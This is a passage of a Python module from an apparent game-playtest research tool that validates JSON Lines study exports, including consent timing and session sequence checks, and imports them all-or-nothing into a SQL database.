    except ValueError as exc:  # NaN/Infinity, 1e999, or an integer of over 4300 digits
        return None, f"not valid JSON: {str(exc).splitlines()[0][:120]}"
    if (
        len(text) > MAX_TEXT_CHARS
        or text.count("{") + text.count("[") > MAX_NESTING
        or "\\u0000" in text
        or _SUSPECT.search(text)
        or ("\\u" in text and _SURROGATE.search(text))
    ):
        return value, _value_problem(value)
    return value, None


def _encodable(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def _value_problem(value: Any) -> str | None:
    """Why a parsed record breaks an import limit, or None (walks without recursion).

    >>> _value_problem({"props": {"n": 10**30}})
    'props.n: the integer 1000000000000000000000000000000 is outside ±9007199254740991'
    >>> _value_problem({"t": "a\\x00b"})
    't: a text holds a NUL character (\\\\u0000)'
    """
    stack: list[tuple[Any, str, int]] = [(value, "", 0)]
    while stack:
        item, path, depth = stack.pop()
        where = path or "record"
        if isinstance(item, dict | list):
            if depth >= MAX_NESTING:
                return f"{where}: values nest deeper than {MAX_NESTING} levels"
            if isinstance(item, dict):
                for key, child in item.items():
                    if "\x00" in key or len(key) > MAX_TEXT_CHARS or not _encodable(key):
                        return f"{where}: a key holds a NUL character or a lone surrogate, or is too long"
                    stack.append((child, f"{path}.{key[:40]}" if path else key[:40], depth + 1))
            else:
                stack.extend((child, f"{where}[{n}]", depth + 1) for n, child in enumerate(item))
        elif isinstance(item, str):
            if "\x00" in item:
                return f"{where}: a text holds a NUL character (\\u0000)"
            if not item.isascii() and not _encodable(item):
                return f"{where}: a text holds a lone UTF-16 surrogate (\\ud800-\\udfff)"
            if len(item) > MAX_TEXT_CHARS:
                return f"{where}: a text of {len(item):,} characters (at most {MAX_TEXT_CHARS:,})"
        elif isinstance(item, bool):
            continue
        elif isinstance(item, int):
            if abs(item) > MAX_INTEGER:
                shown = str(item) if len(str(item)) <= 40 else f"of {len(str(item))} digits"
                return f"{where}: the integer {shown} is outside ±{MAX_INTEGER}"
        elif isinstance(item, float) and not math.isfinite(item):
            return f"{where}: the number {item} is not finite"
    return None


_NOT_JSONL = (
    (b"PAR1", "a Parquet file"),
    (b"PK\x03\x04", "a ZIP file (a spreadsheet?)"),
    (b"\x1f\x8b", "a gzip file (unpack it first)"),
    (b"SQLite format 3\x00", "a SQLite database (set DATABASE_URL to use it)"),
    (b"\xd0\xcf\x11\xe0", "an Excel file"),
)
_HOW = ("playtest import reads the exchange format's JSON Lines: one JSON object per line "
        "(`playtest export --format jsonl` writes it)")


def _not_jsonl(path: Path) -> tuple[int, str] | None:
    """(line, message) when the file is plainly not JSON Lines (item 16), else None."""
    with path.open("rb") as handle:
        head = handle.read(16)
        for magic, what in _NOT_JSONL:
            if head.startswith(magic):
                return 1, f"this is {what}, not JSON Lines: {_HOW}"
        handle.seek(0)
        for number, text, _ in _checked_lines(handle):
            if text is None:
                return None  # the line's own problem is reported by the full check
            first = text.lstrip("\ufeff \t\r\n")
            if first.startswith("{"):
                return None
            looks = "CSV" if "," in first or ";" in first or "\t" in first else "text"
            return number, f"line {number} is not a JSON object (this looks like {looks}): {_HOW}"
    return None


def _split_extra(kind: str, record: dict[str, Any]) -> dict[str, Any] | None:
    known = {"record", *REQUIRED[kind], *OPTIONAL[kind]}
    extra = {key: value for key, value in record.items() if key not in known}
    return extra or None


@dataclass
class _Plan:
    """What pass 1 learnt: small records kept whole, events summarised per session."""

    studies: dict[str, dict[str, Any]] = field(default_factory=dict)
    participants: dict[str, tuple[int, dict[str, Any]]] = field(default_factory=dict)
    assignments: list[tuple[int, dict[str, Any]]] = field(default_factory=list)
    responses: list[tuple[int, dict[str, Any]]] = field(default_factory=list)
    surveys: list[dict[str, Any]] = field(default_factory=list)
    # session_id → [participant_id, first line, min at_ms, {seq: line}]
    sessions: dict[str, list[Any]] = field(default_factory=dict)
    # participant_id → first line that needs the participant (event/assignment/response)
    needs_participant: dict[str, int] = field(default_factory=dict)
    # session_id → last_seq of sessions the database holds already
    stored_last_seq: dict[str, int] = field(default_factory=dict)
    # participant_id → (earliest at_ms of their events/assignments/answers, its line)
    earliest: dict[str, tuple[int, int]] = field(default_factory=dict)


def _chunks(values: list[str], size: int = 500) -> Iterator[list[str]]:
    for start in range(0, len(values), size):
        yield values[start : start + size]


def _validate(engine: Engine, path: Path, report: ImportReport,
              check_study: StudyCheck | None) -> _Plan:
    problems = _Problems()
    plan = _Plan()
    with path.open("rb") as handle:
        for number, line, unreadable in _checked_lines(handle):
            report.lines = number
            if line is None:
                problems.add(number, str(unreadable))
                continue
            record, refused = _parse_line(line)
            if refused is not None:
                problems.add(number, refused)
                continue
            if not isinstance(record, dict):
                problems.add(number, "a line must hold one JSON object")
                continue
            if not _check_record(number, record, problems, check_study):
                continue
            kind = record["record"]
            report.read[kind] += 1
            if kind not in ("study", "participant", "survey"):
                at_ms = ms_from_iso(record["at"])  # cached per day; cheap
                known = plan.earliest.get(record["participant_id"])
                if known is None or at_ms < known[0]:
                    plan.earliest[record["participant_id"]] = (at_ms, number)
            if kind == "study":
                plan.studies[record["study_id"]] = record
            elif kind == "survey":
                plan.surveys.append(record)
            elif kind == "participant":
                pid = record["participant_id"]
                earlier = plan.participants.get(pid)
                if earlier is not None and earlier[1]["study_id"] != record["study_id"]:
                    problems.add(
                        number, f"participant {pid} is in two studies (see line {earlier[0]})"
                    )
                plan.participants[pid] = (number, record)
            elif kind == "event":
                pid, sid = record["participant_id"], record["session_id"]
                plan.needs_participant.setdefault(pid, number)
                session = plan.sessions.get(sid)
                if session is None:
                    plan.sessions[sid] = [pid, number, at_ms, {record["seq"]: number}]
                else:
                    if session[0] != pid:
                        problems.add(
                            number,
                            f"session {sid} belongs to participant {session[0]} (line {session[1]}), not {pid}",
                        )
                    if record["seq"] in session[3]:
                        problems.add(number, f"seq {record['seq']} of session {sid} appears twice")
                    session[3][record["seq"]] = number
                    session[2] = min(session[2], at_ms)
            else:
                plan.needs_participant.setdefault(record["participant_id"], number)
                (plan.assignments if kind == "assignment" else plan.responses).append(
                    (number, record)
                )

    # Cross-record checks, against the file and what the database already holds.
    with engine.connect() as conn:
        wanted_studies = {rec["study_id"] for _, rec in plan.participants.values()}
        known_studies = set(plan.studies)
        missing = sorted(wanted_studies - known_studies)
        for chunk in _chunks(missing):
            known_studies.update(
                conn.execute(
                    select(studies.c.study_id).where(studies.c.study_id.in_(chunk))
                ).scalars()
            )
        file_pids = sorted(plan.participants)
        for chunk in _chunks(file_pids):
            for pid, stored_study in conn.execute(
                select(participants.c.participant_id, participants.c.study_id).where(
                    participants.c.participant_id.in_(chunk)
                )
            ):
                number, rec = plan.participants[pid]
                if stored_study != rec["study_id"]:
                    problems.add(
                        number, f"participant {pid} is stored already in study {stored_study}"
                    )
        for pid, (number, rec) in plan.participants.items():
            if rec["study_id"] not in known_studies:
                problems.add(
                    number, f"participant {pid} belongs to unknown study {rec['study_id']}"
                )
        # participant_id → consent time in ms (None: no consent)
        consent: dict[str, int | None] = {
            pid: None if rec["consented_at"] is None else ms_from_iso(rec["consented_at"])
            for pid, (_, rec) in plan.participants.items()
        }
        stored_pids = sorted(set(plan.needs_participant) - set(consent))
        for chunk in _chunks(stored_pids):
            for pid, consented_at in conn.execute(
                select(participants.c.participant_id, participants.c.consented_at_ms).where(
                    participants.c.participant_id.in_(chunk)
                )
            ):
                consent[pid] = consented_at
        for pid, number in sorted(plan.needs_participant.items(), key=lambda item: item[1]):
            if pid not in consent:
                problems.add(number, f"unknown participant {pid} (no participant record)")
            elif consent[pid] is None:
                problems.add(
                    number,
                    f"participant {pid} has no consent (consented_at is null) but has data",
                )
            elif pid in plan.earliest and plan.earliest[pid][0] < int(consent[pid] or 0):
                at_ms, first_line = plan.earliest[pid]
                problems.add(
                    first_line,
                    f"dated {iso_from_ms(at_ms)}, before participant {pid} consented "
                    f"({iso_from_ms(int(consent[pid] or 0))}): nothing is kept from before consent",
                )
        # Sessions: owner and seq contiguity together with stored events.
        stored_sessions: dict[str, tuple[str, int]] = {}
        for chunk in _chunks(sorted(plan.sessions)):
            for sid, pid, last_seq in conn.execute(
                select(sessions.c.session_id, sessions.c.participant_id, sessions.c.last_seq).where(
                    sessions.c.session_id.in_(chunk)
                )
            ):
                stored_sessions[sid] = (pid, last_seq)
                plan.stored_last_seq[sid] = last_seq
        for sid, (pid, number, _, seqs) in plan.sessions.items():
            if sid in stored_sessions and stored_sessions[sid][0] != pid:
                problems.add(number, f"session {sid} belongs to another participant already")
                continue
            if len(seqs) == max(seqs):
                continue  # 1..n exactly
            stored = set(
                conn.execute(select(events.c.seq).where(events.c.session_id == sid)).scalars()
            )
            combined = set(seqs) | stored
            if len(combined) != max(combined):
                gap = min(set(range(1, max(combined) + 1)) - combined)
                after = min(seq for seq in seqs if seq > gap)
                problems.add(
                    seqs[after],
                    f"session {sid}: seq {after} follows a gap (seq {gap} is missing; "
                    "seq must run 1, 2, 3 … without gaps)",
                )
    if problems.total:
        problems.items.sort()
        raise ImportRejected(str(path), problems.items)
    return plan


def _insert_events(
    conn: Any, engine: Engine, source: Path, study_of: dict[str, str], wanted: set[str]
) -> None:
    """Pass 2: stream the file's events of ``wanted`` sessions into the open transaction.

    Plain DB-API ``executemany`` with tuples: SQLAlchemy's per-row processing would
    cost more than SQLite's own work for a million rows. No conflict target: an event
    stored already under (session_id, seq) or its client_event_id is skipped.
    """
    postgres = engine.dialect.name == "postgresql"
    mark = "%s" if postgres else "?"
    json_mark = "CAST(%s AS jsonb)" if postgres else "?"
    statement = (
        "INSERT INTO events (study_id, participant_id, session_id, seq, at_ms, type, props, "
        "game_id, client_event_id, extra) VALUES "
        f"({', '.join([mark] * 6)}, {json_mark}, {mark}, {mark}, {json_mark}) "
        "ON CONFLICT DO NOTHING"
    )
    known = {"record", *REQUIRED["event"], *OPTIONAL["event"]}
    dumps = json.dumps
    cursor = conn.connection.driver_connection.cursor()
    batch: list[tuple[Any, ...]] = []
    try:
        with source.open("rb") as handle:
            for _, line in _read_lines(handle):
                if '"event"' not in line:
                    continue
                rec = json.loads(line)
                if rec.get("record") != "event" or rec["session_id"] not in wanted:
                    continue
                extra = None
                if len(rec) > 9 or any(key not in known for key in rec):
                    leftover = {key: value for key, value in rec.items() if key not in known}
                    extra = dumps(leftover) if leftover else None
                pid = rec["participant_id"]
                batch.append(
                    (
                        study_of[pid],
                        pid,
                        rec["session_id"],
                        rec["seq"],
                        ms_from_iso(rec["at"]),
                        rec["type"],
                        dumps(rec["props"], separators=(",", ":")),
                        rec.get("game_id"),
                        rec.get("client_event_id"),
                        extra,
                    )
                )
                if len(batch) >= BATCH:
                    cursor.executemany(statement, batch)
                    batch = []
        if batch:
            cursor.executemany(statement, batch)
    finally:
        cursor.close()


def import_jsonl(engine: Engine, path: str | Path, *,
                 check_study: StudyCheck | None = None) -> ImportReport:
    """Import an exchange-format file: validate every line, then store it all or nothing.

    Raises :class:`ImportRejected` (with line numbers) and stores nothing if any line is
    malformed or inconsistent. Records already stored are skipped, so importing the same
    file twice adds nothing the second time. ``check_study`` refuses a study record whose
    settings would fail at play (the app passes
    :func:`playtest.study_config.study_record_problem`); without it, a study's settings
    are checked for their shape only.
    """
    source = Path(path)
    if not source.is_file():
        raise NotFound(f"no such file: {source}")
    report = ImportReport(path=str(source))
    not_jsonl = _not_jsonl(source)
    if not_jsonl is not None:
        raise ImportRejected(str(source), [not_jsonl])
    plan = _validate(engine, source, report, check_study)
    report.studies = sorted(set(plan.studies)
                            | {record["study_id"] for _, record in plan.participants.values()})
    tables = {  # one per kind of TABLE_KINDS
        "study": studies,
        "participant": participants,
        "assignment": assignments,
        "event": events,
        "response": responses,
    }
    with write_lock(engine), engine.begin() as conn:
        if engine.dialect.name == "sqlite":
            # A bigger page cache for this connection: a million inserts touch every index.
            conn.exec_driver_sql("PRAGMA cache_size = -131072")
        before = {
            kind: conn.execute(select(func.count()).select_from(t)).scalar_one()
            for kind, t in tables.items()
        }

        def put(table: Any, rows: list[dict[str, Any]], keys: list[str]) -> None:
            if rows:
                statement = upsert_insert(engine, table).on_conflict_do_nothing(index_elements=keys)
                conn.execute(statement, rows)

        put(
            studies,
            [
                {
                    "study_id": rec["study_id"],
                    "title": rec["title"],
                    "game": rec.get("game", UNNAMED_GAME),
                    "config": raw_config(
                        rules=rec["rules"], experiments=rec["experiments"],
                        surveys=rec.get("surveys") or {},
                        games_per_tester=int(rec.get("games_per_tester") or 1),
                        allow_more_games=bool(rec.get("allow_more_games", False)),
                        settings=rec.get("settings") or {}, game=None,
                        family=rec.get("family"), version=rec.get("version"),
                        language=rec.get("language")),
                    "open": bool(rec.get("open", True)),
                    "created_at_ms": ms_from_iso(rec["created_at"])
                    if rec.get("created_at")
                    else now_ms(),
                    "extra": _split_extra("study", rec),
                }
                for rec in plan.studies.values()
            ],
            ["study_id"],
        )
        study_of: dict[str, str] = {}
        part_rows = []
        for pid, (_, rec) in plan.participants.items():
            study_of[pid] = rec["study_id"]
            part_rows.append(
                {
                    "participant_id": pid,
                    "study_id": rec["study_id"],
                    "created_at_ms": ms_from_iso(rec["created_at"]),
                    "consented_at_ms": None
                    if rec["consented_at"] is None
                    else ms_from_iso(rec["consented_at"]),
                    "consent": rec.get("consent"),
                    "stage": rec.get("stage") or ("done" if rec["consented_at"] else "consent"),
                    "games_completed": int(rec.get("games_completed") or 0),
                    "completion_code": rec.get("completion_code"),
                    "attributes": rec.get("attributes"),
                    "extra": _split_extra("participant", rec),
                }
            )
        put(participants, part_rows, ["participant_id"])
        # Panel ids (an export that asked for them): one tester per panel id and study,
        # as when they arrived; a panel id stored for another tester keeps that one.
        panel_rows = [
            {"participant_id": pid, "study_id": rec["study_id"],
             "at_ms": ms_from_iso(rec["created_at"]),
             **{key: rec.get(key) for key in PANEL_KEYS}}
            for pid, (_, rec) in plan.participants.items() if rec.get("panel_id")]
        if panel_rows:
            conn.execute(upsert_insert(engine, panel_ids).on_conflict_do_nothing(), panel_rows)
        missing = sorted(set(plan.needs_participant) - set(study_of))
        for chunk in _chunks(missing):
            study_of.update(
                dict(
                    conn.execute(
                        select(participants.c.participant_id, participants.c.study_id).where(
                            participants.c.participant_id.in_(chunk)
                        )
                    ).all()
                )
            )
        put(
            assignments,
            [
                {
                    "participant_id": rec["participant_id"],
                    "experiment": rec["experiment"],
                    "study_id": study_of[rec["participant_id"]],
                    "variant": rec["variant"],
                    "at_ms": ms_from_iso(rec["at"]),
                    "extra": _split_extra("assignment", rec),
                }
                for _, rec in plan.assignments
            ],
            ["participant_id", "experiment"],
        )
        put(
            responses,
            [
                {
                    "participant_id": rec["participant_id"],
                    "survey": rec["survey"],
                    "item": rec["item"],
                    "study_id": study_of[rec["participant_id"]],
                    "survey_version": str(rec["survey_version"]),
                    "survey_hash": rec.get("survey_hash"),
                    "phase": rec["phase"],
                    "page_id": rec.get("page_id"),
                    "value": rec["value"],
                    "seconds_on_page": rec.get("seconds_on_page"),
                    "at_ms": ms_from_iso(rec["at"]),
                    "extra": _split_extra("response", rec),
                }
                for _, rec in plan.responses
            ],
            ["participant_id", "survey", "item"],
        )
        put(
            sessions,
            [
                {
                    "session_id": sid,
                    "participant_id": pid,
                    "started_at_ms": first_at,
                    "user_agent": None,
                    "meta": {"imported": True},
                    "last_seq": 0,
                }
                for sid, (pid, _, first_at, _) in plan.sessions.items()
            ],
            ["session_id"],
        )
        for sid, (_, _, _, seqs) in plan.sessions.items():
            top = max(seqs)
            conn.execute(
                update(sessions)
                .where(sessions.c.session_id == sid)
                .where(sessions.c.last_seq < top)
                .values(last_seq=top)
            )
        # Sessions whose events are all stored already (a re-import) are skipped outright:
        # a stored session always holds seq 1 … last_seq.
        pending_sessions = {
            sid
            for sid, (_, _, _, seqs) in plan.sessions.items()
            if plan.stored_last_seq.get(sid, 0) < max(seqs)
        }
        if pending_sessions:
            _insert_events(conn, engine, source, study_of, pending_sessions)
        surveys_added = survey_records.store(conn, report.studies, plan.surveys)
        report.unscorable = _unscorable(conn, report.studies)
        after = {
            kind: conn.execute(select(func.count()).select_from(t)).scalar_one()
            for kind, t in tables.items()
        }
        if engine.dialect.name == "sqlite":
            conn.exec_driver_sql("PRAGMA cache_size = -2000")  # back to SQLite's default
    report.added = {kind: after[kind] - before[kind] for kind in TABLE_KINDS}
    report.added["survey"] = surveys_added
    return report


def _unscorable(conn: Any, study_ids: list[str]) -> list[survey_records.Unscorable]:
    """The answers of these studies that no stored or bundled definition can score."""
    found: list[survey_records.Unscorable] = []
    for study_id in study_ids:
        extra = conn.execute(select(studies.c.extra).where(
            studies.c.study_id == study_id)).scalar_one_or_none()
        stored = _extra(extra).get(survey_records.DEFINITIONS_KEY) or {}
        groups = conn.execute(
            select(responses.c.survey, responses.c.survey_version, func.count(),
                   func.count(responses.c.participant_id.distinct()))
            .where(responses.c.study_id == study_id)
            .group_by(responses.c.survey, responses.c.survey_version)).all()
        found += survey_records.unscorable(
            [(survey, version, answers, testers)
             for survey, version, answers, testers in groups], stored)
    return found


__all__ = [
    "ImportReport",
    "export_jsonl",
    "export_tables",
    "export_tables_counted",
    "import_jsonl",
    "iter_records",
    "load_study_data",
]
